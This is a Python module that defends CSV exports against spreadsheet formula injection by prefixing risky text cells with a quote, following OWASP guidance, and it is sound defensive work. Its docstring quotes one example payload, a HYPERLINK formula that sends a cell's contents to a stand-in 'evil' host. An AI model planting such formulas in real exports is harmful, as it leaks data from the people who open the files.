"""CSV cells that a spreadsheet would run as formulas, made inert (OWASP "CSV Injection").

Ids, names and titles are free text an uploader chooses, so a seeker id such as
``=HYPERLINK("http://evil/?"&A1)`` would be a live formula in the first cell of a row an
officer opens in Excel or WPS. OWASP's advice: prefix every text cell that begins with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return with a single quote, which spreadsheets show as
text. Numbers (a negative ``days_left``) are not text cells and are left alone.
"""

from __future__ import annotations

import pandas as pd

#: First characters that make a spreadsheet cell a formula (or hide one).
FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: str) -> str:
    """``value`` with a leading ``'`` if it starts like a formula."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def neutralise_column(values: pd.Series) -> pd.Series:
    """Text cells of a column neutralised (:func:`neutralise_cell`); other cells unchanged."""
    if not (pd.api.types.is_object_dtype(values.dtype) or pd.api.types.is_string_dtype(values)):
        return values
    try:
        # Vectorised (no Python call per cell: exports hold hundreds of thousands of rows);
        # non-text cells give NA here and are left alone.
        starts = values.str.startswith(FORMULA_STARTS)
    except AttributeError:  # an object column without any text (integers, say)
        return values
    risky = starts.fillna(False).to_numpy(dtype=bool)
    if not risky.any():
        return values
    out = values.astype(object).copy()
    out[risky] = "'" + out[risky].astype(str)
    return out


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every text cell neutralised: the frame itself when no cell needs it (no
    copy), else a copy."""
    changed = {}
    for column in frame.columns:
        original = frame[column]
        values = neutralise_column(original)
        if values is not original:  # neutralise_column returns its input when nothing changes
            changed[column] = values
    if not changed:
        return frame
    out = frame.copy()
    for column, values in changed.items():
        out[column] = values
    return out
